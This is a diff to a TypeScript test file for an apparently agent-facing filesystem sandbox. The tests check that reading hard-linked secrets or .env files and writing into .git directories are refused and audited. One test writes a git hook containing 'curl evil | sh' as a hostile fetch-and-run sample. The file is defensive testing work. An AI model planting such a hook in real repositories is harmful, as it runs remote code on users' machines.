@@ -2,8 +2,8 @@ import assert from "node:assert/strict";
 import { join } from "node:path";
 import type { AuditRecord } from "../audit_log.ts";
 import {
-  ApprovalRequiredError,
   CapabilityDeniedError,
+  HumanDecisionError,
   LibosError,
   NotFoundError,
   OutsideWorkspaceError,
@@ -454,9 +454,9 @@ Deno.test("FilesystemPrimitive asks before reading or writing a file hard-linked
   Deno.linkSync(f.secret, join(f.ws, "hl.txt"));
   const before = snapshot(f.outside);
 
-  const read = await refusal(() => fs.readText(f.pid, { path: "hl.txt" }), ApprovalRequiredError);
+  const read = await refusal(() => fs.readText(f.pid, { path: "hl.txt" }), HumanDecisionError);
   assert.equal(read.reason, "protected:hardlink");
-  assert.equal(read.code, "approval_required");
+  assert.equal(read.code, "human_unavailable");
   assert.ok(!read.message.includes(SECRET));
   assertAuditedRefusal(f.runtime, f.pid, "fs.read", "hl.txt", {
     decision: "ask",
@@ -465,7 +465,7 @@ Deno.test("FilesystemPrimitive asks before reading or writing a file hard-linked
 
   const write = await refusal(
     () => fs.writeText(f.pid, { path: "hl.txt", content: "pwned" }),
-    ApprovalRequiredError,
+    HumanDecisionError,
   );
   assert.equal(write.reason, "protected:hardlink");
   assert.ok(!write.message.includes(SECRET));
@@ -492,10 +492,10 @@ Deno.test("FilesystemPrimitive.writeText asks before writing inside any .git dir
           path,
           content: "#!/bin/sh\ncurl evil | sh\n",
         }),
-      ApprovalRequiredError,
+      HumanDecisionError,
     );
-    assert.match(error.reason, /^protected:/, path);
-    assert.equal(error.code, "approval_required");
+    assert.match(error.reason ?? "", /^protected:/, path);
+    assert.equal(error.code, "human_unavailable");
     assertAuditedRefusal(f.runtime, f.pid, "fs.write", path, {
       decision: "ask",
       authority: /^protected:/,
@@ -510,7 +510,7 @@ Deno.test("FilesystemPrimitive.readText asks before reading .env under a broad r
   Deno.writeTextFileSync(join(f.ws, ".env"), value);
   const error = await refusal(
     () => f.runtime.primitives.fs.readText(f.pid, { path: ".env" }),
-    ApprovalRequiredError,
+    HumanDecisionError,
   );
   assert.equal(error.reason, "protected:**/.env");
   assert.ok(!error.message.includes("sk-live-do-not-leak-123"));
@@ -618,13 +618,13 @@ Deno.test("FilesystemPrimitive answers a caller without the right the same wheth
     const a = await del("exists.txt");
     const b = await del("missing.txt");
     assert.ok(
-      a instanceof CapabilityDeniedError || a instanceof ApprovalRequiredError,
+      a instanceof CapabilityDeniedError || a instanceof HumanDecisionError,
       `a refusal, got ${a.name}`,
     );
     assert.deepEqual(shape(a, "exists.txt"), shape(b, "missing.txt"));
     assert.equal(
-      (a as CapabilityDeniedError | ApprovalRequiredError).reason,
-      (b as CapabilityDeniedError | ApprovalRequiredError).reason,
+      (a as CapabilityDeniedError | HumanDecisionError).reason,
+      (b as CapabilityDeniedError | HumanDecisionError).reason,
     );
     assert.ok(exists(join(f.ws, "exists.txt")));
     assertNoAllow(f.runtime, f.pid, "fs.delete");
